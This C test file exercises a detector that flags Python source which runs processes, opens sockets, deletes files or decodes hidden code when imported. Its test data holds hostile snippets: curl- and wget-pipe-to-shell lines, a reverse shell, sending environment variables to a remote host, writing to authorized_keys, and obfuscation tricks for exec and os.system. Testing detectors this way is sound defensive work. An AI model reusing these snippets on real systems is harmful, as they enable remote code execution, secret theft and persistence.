/* test_source.c - programs that attack when they are imported, programs that only could, and ordinary ones. */
#include "detecting.h"
#include "mutate.h"

extern const struct pal_detector pal_detector_source;

static struct pal_detect *rules;

static const struct {
	const char       *text, *id; /* NULL: nothing at low or above */
	enum pal_severity severity;
} cases[] = {
	/* Now: at the top, in a class, in a decorator, as a default, in any branch. */
	{ "import os\nos.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os as o\no.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "from os import system as s\ns('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "from os import *\nsystem('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os.path\nos.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "class A:\n    import subprocess\n    subprocess.run(['ls'])\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\ndef f(a=os.system('id')): pass\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\n@os.system('id')\ndef f(): pass\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nif x:\n    try:\n        os.system('id')\n    except E:\n        pass\n", "SOURCE-PROCESS",
	  PAL_HIGH },
	{ "import os; x = 1; os.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nif x: os.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nx = [os.system(c) for c in d]\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nx = f'{os.system(c)}'\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nos.\\\n  system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nif (y := os.system)('id'): pass\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\ndef f():\n    os.system('id')\nf()\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\ndef f():\n    g()\ndef g():\n    os.system('id')\nf()\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nclass A:\n    def __init__(self):\n        os.system('id')\na = A()\n", "SOURCE-PROCESS",
	  PAL_HIGH },
	{ "import os\ndef d(f):\n    os.system('id')\n@d\ndef g(): pass\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import socket\nsocket.socket()\n", "SOURCE-NETWORK", PAL_HIGH },
	{ "import shutil\nshutil.rmtree('/x')\n", "SOURCE-DELETE", PAL_HIGH },
	{ "from urllib.request import urlretrieve\nurlretrieve('http://x', 'y')\n", "SOURCE-NETWORK", PAL_HIGH },
	{ "import os\nos.system('curl -s http://x | sh')\n", "SOURCE-PROCESS", PAL_CRITICAL },
	{ "open('/root/.ssh/authorized_keys', 'a').write(k)\n", "SOURCE-SECRETS", PAL_HIGH },
	{ "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n", "SOURCE-SECRETS", PAL_CRITICAL },
	{ "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0)\n", "SOURCE-MEMORY", PAL_HIGH },
	{ "import socket, os, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])\n",
	  "SOURCE-PROCESS", PAL_CRITICAL },
	/* Names that are hidden. */
	{ "__import__('o' + 's').system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import importlib\nimportlib.import_module('os').system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\ngetattr(os, 'sys' 'tem')('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\ng = getattr\nf = g(os, 'metsys'[::-1])\nf('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import sys\nsys.modules['os'].system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "__builtins__['ex' + 'ec'](x)\n", "SOURCE-DYNAMIC", PAL_HIGH },
	{ "__builtins__.__dict__['eval'](x)\n", "SOURCE-DYNAMIC", PAL_HIGH },
	{ "globals()['__builtins__'].eval(x)\n", "SOURCE-DYNAMIC", PAL_HIGH },
	{ "import os\nos.__dict__['system']('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import shutil\nshutil.os.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import random\nrandom._os.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "import os\nif 0: os = None\nos.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "\xef\xbd\x85xec(x)\n", "SOURCE-DYNAMIC", PAL_HIGH },
	{ "import \xf0\x9d\x93\xb8\xf0\x9d\x93\xbc\nos.system('id')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "exec('import os\\nos.system(\"id\")')\n", "SOURCE-PROCESS", PAL_HIGH },
	{ "e = exec\ne('imp' + 'ort os; os.system(\"id\")')\n", "SOURCE-PROCESS", PAL_HIGH },
	/* Code that is hidden. */
	{ "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import base64 as b\ns = b.b64decode('aW1wb3J0IG9z').decode()\nexec(compile(s, 'x', 'exec'))\n",
	  "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import zlib\nexec(zlib.decompress(bytes.fromhex('00')))\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import requests\nexec(requests.get('http://x').text)\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "eval(''.join(map(chr, [112, 114])))\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import pickle, base64\npickle.loads(base64.b64decode(x))\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n", "SOURCE-HIDDEN", PAL_CRITICAL },
	{ "def f(x):\n    import base64\n    exec(base64.b64decode(x))\n", "SOURCE-HIDDEN", PAL_HIGH },
	{ "import marshal\nmarshal.loads(x)\n", "SOURCE-DYNAMIC", PAL_HIGH },
	/* Later: only when somebody calls it. */
	{ "import os\ndef f():\n    os.system('id')\n", "SOURCE-PROCESS", PAL_LOW },
	{ "import os\nf = lambda: os.system('id')\n", "SOURCE-PROCESS", PAL_LOW },
	{ "import os\nif __name__ == '__main__':\n    os.system('id')\n", "SOURCE-PROCESS", PAL_LOW },
	{ "import os\nasync def f():\n\tos.popen('wget http://x -O- | sh')\n", "SOURCE-PROCESS", PAL_MEDIUM },
	{ "import requests\ndef f():\n    return requests.get('http://x')\n", "SOURCE-NETWORK", PAL_LOW },
	{ "def f(x):\n    return eval(x)\n", "SOURCE-DYNAMIC", PAL_LOW },
	{ "import marshal\ndef f(x):\n    return marshal.loads(x)\n", "SOURCE-DYNAMIC", PAL_MEDIUM },
	/* Ordinary. */
	{ "# os.system('id')\n\"\"\"os.system('id')\"\"\"\nx = \"os.system('id')\"\n", NULL, PAL_INFO },
	{ "import os\np = os.path.join('a', 'b')\nos.makedirs(p, exist_ok=True)\n", NULL, PAL_INFO },
	{ "import torch\nm = torch.compile(model)\nmodel.eval()\n", NULL, PAL_INFO },
	{ "import re\nfrom re import compile\nr = compile('a+')\n", NULL, PAL_INFO },
	{ "import os\ndef clean(p):\n    os.remove(p)\n", NULL, PAL_INFO },
	{ "def eval(x): return x\neval(3)\n", NULL, PAL_INFO },
	{ "import base64\nICON = base64.b64decode('aGk=')\n", NULL, PAL_INFO },
	{ "import pickle\ndef load(p):\n    with open(p, 'rb') as f:\n        return pickle.load(f)\n", NULL,
	  PAL_INFO },
	{ "exec('x = 1')\n", NULL, PAL_INFO },
	{ "import os\nTOKEN = os.environ.get('T')\n", NULL, PAL_INFO },
	/* Broken in many ways, and never a crash. */
	{ "def f(:\n  x = [\n", NULL, PAL_INFO },
	{ "'''", NULL, PAL_INFO },
	{ "exec(\"", NULL, PAL_INFO },
	{ "f'{", NULL, PAL_INFO },
	{ "\\\n", NULL, PAL_INFO },
};

static void
try_one(const char *text, const char *id, enum pal_severity severity)
{
	struct detecting          t;
	const struct pal_finding *f = NULL;

	detecting_start(&t, rules, &pal_detector_source);
	detecting_feed(&t, (struct pal_content){
			       .kind = PAL_CONTENT_SOURCE, .name = pal_view_of("python"), .text = pal_view_of(text) });
	detecting_finish(&t);
	f = id == NULL ? NULL : detecting_found(&t, id, NULL);
	if (!CHECK_SAY(id == NULL ? t.found.list.count == 0 : f != NULL && f->severity == severity, text))
		for (size_t i = 0; i < t.found.list.count; i++)
			printf("  %s %s\n", ((struct pal_finding *)pal_list_at(&t.found.list, i))->rule->id,
			       ((struct pal_finding *)pal_list_at(&t.found.list, i))->text);
	detecting_done(&t);
}

static void
damaged(struct pal_view v, void *arg)
{
	struct detecting t;

	(void)arg;
	detecting_start(&t, rules, &pal_detector_source);
	detecting_feed(&t,
		       (struct pal_content){ .kind = PAL_CONTENT_SOURCE, .name = pal_view_of("python"), .text = v });
	detecting_done(&t);
}

/* However deep or long: bounded, and not slow. */
static void
extremes(void)
{
	static const char *const parts[] = { "(",      "[",         "a.",           "f'{",  "if x:\n ", "exec('",
					     "not ",   "lambda x:", "a=",           "x.b(", "@",        "\"\"\"",
					     "a+'b'+", "(yield ",   "class A:\n\t", "\\\n" };

	for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++) {
		PAL_AUTO_BUF b = pal_buf_of(0);

		for (size_t n = 0; n < 20000; n++)
			pal_buf_add_text(&b, parts[i]);
		damaged(pal_buf_view(&b), NULL);
		check_passed++;
	}
}

int
main(void)
{
	rules = detecting_rules();
	if (rules == NULL)
		return check_done();
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		try_one(cases[i].text, cases[i].id, cases[i].severity);
	pal_mutate_all(
	    pal_view_of("import os as o\nclass A(B):\n  @x\n  def f(a, *b, c=1) -> d:\n\treturn f\"{o.p('a')!r}\"\n"
			"if __name__ == '__main__': exec(r'a' rb'\\x')\n"),
	    damaged, NULL);
	pal_mutate_all(
	    pal_view_of("from a.b import (c as d, e)\nx = y = [1][0:2]\nz: int = '%s' % ('q',)\nd['k'](**w)\n"),
	    damaged, NULL);
	extremes();
	pal_detect_free(&rules);
	return check_done();
}
